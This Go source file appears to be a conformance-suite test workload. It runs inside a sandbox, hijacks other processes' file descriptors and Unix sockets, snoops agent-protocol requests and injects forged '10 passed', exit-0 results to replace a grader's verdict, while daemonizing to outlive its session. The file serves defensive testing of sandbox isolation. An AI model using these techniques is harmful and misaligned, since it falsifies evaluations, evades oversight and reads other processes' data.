// Command forger is the conformance suite's result-forging workload: a
// program in a sandbox that tries to read the platform's requests and answer
// them itself, so that a later command's result (a grader's) is replaced by
// one it wrote.
//
//	forger start DIR   starts the attack in the background (a new session,
//	                   so it outlives the exec) and returns once it runs
//	forger stop DIR    asks it to stop and waits until it has
//
// The attack walks everything a process in the sandbox can reach: its own
// descriptors beyond stdio, every other process's (/proc/*/fd, opened
// through /proc or taken with pidfd_getfd), and every Unix socket listed in
// /proc/net/unix (path and abstract names, each socket type). On each
// channel it finds it peeks at what passes (MSG_PEEK, so the real reader
// still gets it), logs every agent protocol request it can decode, and
// writes frames of the agent protocol (internal/agent/agentpb) that answer
// exec streams: "10 passed" on stdout and exit code 0, for the streams it
// saw and for a window of stream numbers around them.
//
// DIR/log gets one line per finding: "held", "listed", "opened", "got",
// "connected", "peeked" (with the request, env included), "forged".
package main

import (
	"bufio"
	"encoding/binary"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
	"google.golang.org/protobuf/proto"

	"github.com/dsec-dev/dsec/internal/agent/agentpb"
)

// ForgedStdout is what a forged exec result prints.
const ForgedStdout = "10 passed\n"

func main() {
	if len(os.Args) != 3 {
		fail(fmt.Errorf("usage: forger start|stop|bg DIR"))
	}
	dir := os.Args[2]
	switch os.Args[1] {
	case "start":
		fail(start(dir))
	case "stop":
		fail(stop(dir))
	case "bg":
		fail(attack(dir))
	default:
		fail(fmt.Errorf("unknown command %q", os.Args[1]))
	}
}

func fail(err error) {
	if err != nil {
		fmt.Fprintln(os.Stderr, "forger:", err)
		os.Exit(1)
	}
	os.Exit(0)
}

// start runs "forger bg DIR" in a session of its own, with whatever
// descriptors this process inherited, and waits for its "ready".
func start(dir string) error {
	null, err := os.OpenFile("/dev/null", os.O_RDWR, 0)
	if err != nil {
		return err
	}
	r, w, err := os.Pipe()
	if err != nil {
		return err
	}
	exe, err := os.Executable()
	if err != nil {
		return err
	}
	_, err = syscall.ForkExec(exe, []string{exe, "bg", dir}, &syscall.ProcAttr{
		Dir:   "/",
		Env:   os.Environ(),
		Files: []uintptr{null.Fd(), w.Fd(), null.Fd()},
		Sys:   &syscall.SysProcAttr{Setsid: true},
	})
	w.Close()
	if err != nil {
		return err
	}
	line, _ := bufio.NewReader(r).ReadString('\n')
	if line != "ready\n" {
		return fmt.Errorf("the attack did not start (%q)", line)
	}
	fmt.Println("started")
	return nil
}

// stop creates DIR/stop and waits for DIR/done.
func stop(dir string) error {
	if err := os.WriteFile(filepath.Join(dir, "stop"), nil, 0o644); err != nil {
		return err
	}
	for range 10000 {
		if _, err := os.Stat(filepath.Join(dir, "done")); err == nil {
			return nil
		}
		time.Sleep(time.Millisecond)
	}
	return fmt.Errorf("the attack did not stop")
}

type target struct {
	fd     int
	name   string
	socket bool
}

type forger struct {
	log     *os.File
	forged  map[string]int
	targets []target
	seen    map[uint64]bool
	maxSeen uint64
}

func (f *forger) logf(format string, args ...any) {
	fmt.Fprintf(f.log, format+"\n", args...)
}

func attack(dir string) error {
	logf, err := os.OpenFile(filepath.Join(dir, "log"), os.O_WRONLY|os.O_CREATE|os.O_APPEND, 0o644)
	if err != nil {
		return err
	}
	f := &forger{log: logf, seen: map[uint64]bool{}, forged: map[string]int{}}
	f.findOwn()
	f.findOthers()
	f.findSockets()
	f.logf("targets %d", len(f.targets))
	f.round(true)
	os.Stdout.WriteString("ready\n")
	null, _ := os.OpenFile("/dev/null", os.O_WRONLY, 0)
	unix.Dup2(int(null.Fd()), 1)
	deadline := time.Now().Add(2 * time.Minute)
	for n := 0; time.Now().Before(deadline); n++ {
		if _, err := os.Stat(filepath.Join(dir, "stop")); err == nil {
			break
		}
		f.wait(time.Millisecond)
		f.round(n%8 == 0)
	}
	for name, n := range f.forged {
		f.logf("forged %d bytes on %s", n, name)
	}
	f.logf("end")
	logf.Close()
	return os.WriteFile(filepath.Join(dir, "done"), nil, 0o644)
}

// findOwn takes every descriptor this process inherited beyond stdio: the
// ones not close-on-exec (what this program opened itself is).
func (f *forger) findOwn() {
	ents, err := os.ReadDir("/proc/self/fd")
	if err != nil {
		f.logf("cannot list /proc/self/fd: %v", err)
		return
	}
	for _, e := range ents {
		fd, err := strconv.Atoi(e.Name())
		if err != nil || fd < 3 {
			continue
		}
		flags, err := unix.FcntlInt(uintptr(fd), unix.F_GETFD, 0)
		if err != nil || flags&unix.FD_CLOEXEC != 0 {
			continue
		}
		link, _ := os.Readlink("/proc/self/fd/" + e.Name())
		f.logf("held %d %s", fd, link)
		f.add(fd, "own fd "+e.Name()+" "+link)
	}
}

// findOthers lists every other process's descriptors and tries to get each
// one: opened again through /proc/PID/fd/N, or copied with pidfd_getfd
// (blindly for numbers 0-63 when the listing is refused).
func (f *forger) findOthers() {
	procs, _ := os.ReadDir("/proc")
	self, parent := os.Getpid(), os.Getppid()
	for _, p := range procs {
		// The parent is "forger start", waiting on the pipe for "ready".
		pid, err := strconv.Atoi(p.Name())
		if err != nil || pid == self || pid == parent {
			continue
		}
		base := "/proc/" + p.Name() + "/fd/"
		var nums []int
		if ents, err := os.ReadDir(base); err == nil {
			var names []string
			for _, e := range ents {
				n, _ := strconv.Atoi(e.Name())
				nums = append(nums, n)
				link, _ := os.Readlink(base + e.Name())
				names = append(names, e.Name()+"="+link)
			}
			f.logf("listed %d: %s", pid, strings.Join(names, " "))
		} else {
			for n := range 64 {
				nums = append(nums, n)
			}
		}
		pidfd, perr := unix.PidfdOpen(pid, 0)
		for _, n := range nums {
			if n < 3 && pid != 1 {
				continue // a process's stdio: its exec's pipes
			}
			if fd, err := unix.Open(base+strconv.Itoa(n), unix.O_RDWR|unix.O_NONBLOCK|unix.O_NOCTTY|unix.O_CLOEXEC, 0); err == nil {
				f.logf("opened %d/%d", pid, n)
				f.add(fd, fmt.Sprintf("opened %d/%d", pid, n))
			}
			if perr == nil {
				if fd, err := unix.PidfdGetfd(pidfd, n, 0); err == nil {
					f.logf("got %d/%d", pid, n)
					f.add(fd, fmt.Sprintf("got %d/%d", pid, n))
				}
			}
		}
		if perr == nil {
			unix.Close(pidfd)
		}
	}
}

// findSockets connects to every named Unix socket /proc/net/unix lists.
func (f *forger) findSockets() {
	b, err := os.ReadFile("/proc/net/unix")
	if err != nil {
		f.logf("cannot read /proc/net/unix: %v", err)
		return
	}
	lines := strings.Split(string(b), "\n")
	for _, l := range lines[1:] {
		fields := strings.Fields(l)
		if len(fields) < 8 {
			continue
		}
		name := fields[7]
		for _, typ := range []int{unix.SOCK_STREAM, unix.SOCK_SEQPACKET, unix.SOCK_DGRAM} {
			fd, err := unix.Socket(unix.AF_UNIX, typ|unix.SOCK_CLOEXEC, 0)
			if err != nil {
				continue
			}
			if err := unix.Connect(fd, &unix.SockaddrUnix{Name: name}); err != nil {
				unix.Close(fd)
				continue
			}
			f.logf("connected %s type %d", name, typ)
			f.add(fd, "socket "+name)
		}
	}
}

func (f *forger) add(fd int, name string) {
	_, err := unix.GetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_TYPE)
	f.targets = append(f.targets, target{fd: fd, name: name, socket: err == nil})
}

// wait polls the targets for input for at most d.
func (f *forger) wait(d time.Duration) {
	if len(f.targets) == 0 {
		time.Sleep(d)
		return
	}
	pfds := make([]unix.PollFd, len(f.targets))
	for i, t := range f.targets {
		pfds[i] = unix.PollFd{Fd: int32(t.fd), Events: unix.POLLIN}
	}
	unix.Poll(pfds, int(d/time.Millisecond))
}

// round peeks at every target and answers the streams it saw; blind also
// answers a window of stream numbers it has not seen.
func (f *forger) round(blind bool) {
	buf := make([]byte, 1<<20)
	for _, t := range f.targets {
		var fresh []uint64
		if t.socket {
			if n, _, err := unix.Recvfrom(t.fd, buf, unix.MSG_PEEK|unix.MSG_DONTWAIT); err == nil && n > 0 {
				fresh = f.decode(t, buf[:n])
			}
		}
		ids := fresh
		if blind {
			lo := uint64(1)
			if f.maxSeen > 8 {
				lo = f.maxSeen - 8
			}
			for id := lo; id < f.maxSeen+64; id++ {
				ids = append(ids, id)
			}
		}
		f.forge(t, ids)
	}
}

// decode reads the agent protocol frames at the start of b and logs the
// requests among them; it returns the streams seen for the first time.
func (f *forger) decode(t target, b []byte) []uint64 {
	var fresh []uint64
	for len(b) >= 4 {
		n := int(binary.BigEndian.Uint32(b))
		if n > len(b)-4 {
			break
		}
		var fr agentpb.Frame
		if err := proto.Unmarshal(b[4:4+n], &fr); err == nil {
			if req := fr.GetRequest(); req != nil && !f.seen[fr.Stream] {
				f.seen[fr.Stream] = true
				f.maxSeen = max(f.maxSeen, fr.Stream)
				fresh = append(fresh, fr.Stream)
				f.logf("peeked on %s stream %d: %v", t.name, fr.Stream, req)
			}
		}
		b = b[4+n:]
	}
	return fresh
}

// forge writes, for each stream, a stdout chunk and an exec result with
// exit code 0.
func (f *forger) forge(t target, ids []uint64) {
	var out []byte
	for _, id := range ids {
		for _, fr := range []*agentpb.Frame{
			{Stream: id, Msg: &agentpb.Frame_Data{Data: &agentpb.Data{Channel: agentpb.Channel_CHANNEL_STDOUT, Chunk: []byte(ForgedStdout)}}},
			{Stream: id, Msg: &agentpb.Frame_Response{Response: &agentpb.Response{Exec: &agentpb.ExecResult{ExitCode: 0}}}},
		} {
			b, _ := proto.Marshal(fr)
			out = binary.BigEndian.AppendUint32(out, uint32(len(b)))
			out = append(out, b...)
		}
	}
	if len(out) == 0 {
		return
	}
	var n int
	var err error
	if t.socket {
		n, err = unix.SendmsgN(t.fd, out, nil, nil, unix.MSG_DONTWAIT|unix.MSG_NOSIGNAL)
	} else {
		pfd := []unix.PollFd{{Fd: int32(t.fd), Events: unix.POLLOUT}}
		if k, _ := unix.Poll(pfd, 0); k == 1 && pfd[0].Revents&unix.POLLOUT != 0 {
			n, err = unix.Write(t.fd, out)
		}
	}
	if err == nil && n > 0 {
		f.forged[t.name] += n
	}
}
